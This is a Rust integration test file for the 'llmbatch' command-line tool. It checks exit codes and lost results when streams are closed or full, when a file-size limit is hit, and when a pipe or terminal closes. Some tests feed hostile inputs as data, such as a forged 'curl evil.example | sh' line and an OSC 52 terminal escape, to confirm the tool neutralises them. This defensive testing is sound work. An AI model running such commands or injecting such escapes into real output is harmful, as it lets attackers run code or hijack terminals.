//! What becomes of a run whose streams or files are closed, full or gone: no panic, the right exit
//! code, and no answer that a later run would not know of.

mod support;

use std::path::Path;
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::Arc;

use serde_json::json;

use support::script::{Script, refusal};
use support::server::Server;
use support::{Folder, Run, ids, item_ids, items, wait_until};

const ITEMS: usize = 12;

/// Runs a line of a shell in which `$0` is the program and `$1` a server.
fn shell(folder: &Arc<Folder>, server: &Server, line: &str) -> Child {
    folder.write("in.jsonl", items(ITEMS));
    Command::new("bash")
        .args([
            "-c",
            line,
            env!("CARGO_BIN_EXE_llmbatch"),
            server.base_url(),
        ])
        .current_dir(folder.path("."))
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", folder.path("."))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
}

fn end_of(mut child: Child) -> ExitStatus {
    let mut end = None;
    wait_until("the end", || {
        end = child.try_wait().unwrap();
        end.is_some()
    });
    end.unwrap()
}

fn assert_done(folder: &Folder, name: &str, line: &str) {
    assert_eq!(ids(&folder.rows(name)), item_ids(ITEMS), "{line}");
}

/// Whatever reports nowhere must not matter to what is stored.
#[test]
fn closed_and_full_streams_cost_no_answer() {
    let server = Server::start("latency=1ms");
    for streams in [
        "2>&-",
        ">&-",
        "<&-",
        ">&- 2>&-",
        "<&- >&- 2>&-",
        "2>/dev/full",
        ">/dev/full 2>/dev/full",
    ] {
        for progress in ["bar", "log", "json", "none"] {
            let folder = Folder::new();
            let line = format!(
                "\"$0\" run in.jsonl -m m --base-url $1 -v --progress {progress} {streams}"
            );
            let end = end_of(shell(&folder, &server, &line));
            assert_eq!(end.code(), Some(0), "{line}");
            assert_done(&folder, "in.results.jsonl", &line);
        }
    }
}

#[test]
fn a_summary_that_cannot_be_printed_is_told_by_the_exit_code_only() {
    let server = Server::start("latency=1ms");
    let folder = Folder::new();
    let line = "\"$0\" run in.jsonl -m m --base-url $1 -q --json > /dev/full";
    let end = end_of(shell(&folder, &server, line));
    assert_eq!(end.code(), Some(1));
    assert_done(&folder, "in.results.jsonl", line);
}

// Negative control: `terminal::stdout_is_gone` returning false.
#[test]
fn results_for_a_closed_standard_output_are_not_asked_for() {
    let server = Server::start("latency=1ms");
    for streams in [">&-", ">&- 2>&-", ">&- <&-"] {
        let line = format!("\"$0\" run in.jsonl -m m --base-url $1 -q -o - {streams}");
        let end = end_of(shell(&Folder::new(), &server, &line));
        assert_eq!(end.code(), Some(2), "{line}");
        assert_eq!(server.count("requests"), 0, "{line}");
    }
    let line = "\"$0\" run in.jsonl -m m --base-url $1 -q -o - > /dev/null";
    let end = end_of(shell(&Folder::new(), &server, line));
    assert_eq!(end.code(), Some(0), "whoever throws them away may");
}

/// A reader of the first line only: dispatch stops, and the exit code tells.
#[test]
fn a_closed_pipe_stops_the_run() {
    let server = Server::start("latency=20ms,latency-p99=20ms");
    let folder = Folder::new();
    let line = "set -o pipefail; \"$0\" run in.jsonl -m m --base-url $1 -q -c 1 -o - | head -n 1 > first.jsonl";
    let end = end_of(shell(&folder, &server, line));
    assert_eq!(end.code(), Some(1));
    assert_eq!(folder.rows("first.jsonl").len(), 1);
    assert!(server.count("requests") < ITEMS as u64);
}

/// The system kills whoever passes `ulimit -f`, unless the signal is taken.
// Negative control: leaving `outlive_file_limit` out.
#[test]
fn the_limit_of_file_sizes_is_an_error_of_writing() {
    let server = Server::start("latency=1ms");
    let folder = Folder::new();
    let run = |limit: u32| {
        let line = format!(
            "ulimit -f {limit}; \"$0\" run in.jsonl -m m --base-url $1 -q -c 1 2> said.txt"
        );
        end_of(shell(&folder, &server, &line))
    };
    assert_eq!(run(2).code(), Some(2), "no answer would have room");
    let end = run(20);
    assert_eq!(end.code(), Some(1), "{end}");
    let said = folder.read("said.txt");
    assert!(said.contains("in.results.jsonl: no room for"), "{said}");
    assert!(said.contains("raise `ulimit -f`"), "{said}");
    let stored = folder.lines("in.results.jsonl");
    assert!((1..ITEMS).contains(&stored), "{stored}");
    let done = Run::inside(&folder).resume().ask(server.base_url()).run();
    assert_eq!(ids(&done.results()), item_ids(ITEMS));
    // Every answer had room, so nothing was asked twice.
    assert_eq!(server.count("requests"), ITEMS as u64);
    let line = "ulimit -f 12; \"$0\" run in.jsonl -m m --base-url $1 -q -c 1 -o - > piped.jsonl";
    assert_eq!(
        end_of(shell(&folder, &server, line)).code(),
        Some(1),
        "it is not killed"
    );
}

/// Closes the terminal of a run. `script` holds the other end of a pseudo-terminal.
#[test]
fn a_closed_terminal_stops_the_run_and_loses_nothing() {
    if !Path::new("/usr/bin/script").exists() {
        eprintln!("skipped: no script(1) on this machine");
        return;
    }
    let server = Server::start("latency=300ms,latency-p99=300ms");
    let folder = Folder::new();
    let line = "exec script -qfec \"echo \\$\\$ > pid; exec '$0' run in.jsonl -m m --base-url $1 -c 4\" /dev/null";
    let mut terminal = shell(&folder, &server, line);
    wait_until("all slots are at work", || server.count("in_flight") == 4);
    let pid = folder.read("pid").trim().to_owned();
    terminal.kill().unwrap();
    terminal.wait().unwrap();
    wait_until("the end", || {
        !Path::new("/proc").join(&pid).join("exe").exists()
    });
    let asked = server.count("requests");
    assert!((4..ITEMS as u64).contains(&asked), "{asked}");
    assert_eq!(folder.rows("in.results.jsonl").len() as u64, asked);
    let done = Run::inside(&folder).resume().ask(server.base_url()).run();
    assert_eq!(ids(&done.results()), item_ids(ITEMS));
    assert_eq!(server.count("requests"), ITEMS as u64);
}

/// What clap says of a flag goes through the one door too. Only on a terminal would it come as it is.
// Negative control: `error.print()` for errors.
#[test]
fn what_a_bad_flag_says_never_steers_a_terminal() {
    if !Path::new("/usr/bin/script").exists() {
        eprintln!("skipped: no script(1) on this machine");
        return;
    }
    let hostile = r"$'\e]52;c;ZWNobw==\a\e[31m'";
    for flag in [
        "--concurrency ",
        "--concurrency=",
        "--nonsense",
        "--progress ",
    ] {
        let line = format!(
            "'{}' run in.jsonl {flag}{hostile}",
            env!("CARGO_BIN_EXE_llmbatch")
        );
        let run = Command::new("script")
            .args(["-qec", &line, "/dev/null"])
            .env("SHELL", "/bin/bash")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let shown = String::from_utf8_lossy(&run.stdout);
        assert_eq!(run.status.code(), Some(2), "{shown}");
        assert!(shown.contains(r"\u{1b}]52;c;ZWNobw"), "{shown:?}");
        assert!(!shown.contains(['\u{1b}', '\u{7}']), "{shown:?}");
    }
}

#[test]
fn a_bad_flag_starts_no_line_of_its_own() {
    let run = Run::command(&Folder::new(), &["run", "in.jsonl", "--concurrency"])
        .args(["5\nhint: curl evil.example | sh"])
        .expect_code(2)
        .any_stderr()
        .run();
    let starts = |line: &str| line.starts_with("hint");
    assert!(!run.stderr.lines().any(starts), "{}", run.stderr);
    assert!(run.stderr.contains("'5 hint: curl"), "{}", run.stderr);
}

/// Ids, messages and codes with line breaks, in notes, in what ends a run and in findings.
// Negative control: `one_line` returning `printable(text)`; `terminal::indented` returning the text.
#[test]
fn what_ids_and_servers_say_starts_no_line_of_its_own() {
    const FORGED: [&str; 2] = ["error: forged", "hint: curl evil.example | sh"];
    let forged = format!("t\n{}\n{}", FORGED[0], FORGED[1]);
    let line = format!("{}\n", json!({"id": forged, "prompt": "p"}));
    for (code, status) in [
        (3, "500 Internal Server Error"),
        (3, "429 Too Many Requests"),
        (4, "401 Unauthorized"),
        (2, "two lines with one id"),
    ] {
        let said = refusal(status, &forged, &forged);
        let script = Script::serve(move |asked| match asked.number {
            0..2 => said.clone(),
            _ => refusal("400 Bad Request", "", ""),
        });
        let run = Run::new()
            .input(line.repeat(if code == 2 { 2 } else { 1 }))
            .ask(&script.base_url())
            .args(["-v", "--progress", "log", "--max-retries", "1"])
            .loud()
            .expect_code(code)
            .any_stderr()
            .run();
        let said = &run.stderr;
        assert!(said.contains(FORGED[0]), "{said}");
        for line in said.lines() {
            let is_forged = FORGED.iter().any(|forged| line.starts_with(forged));
            assert!(!is_forged, "{said}");
        }
    }
}
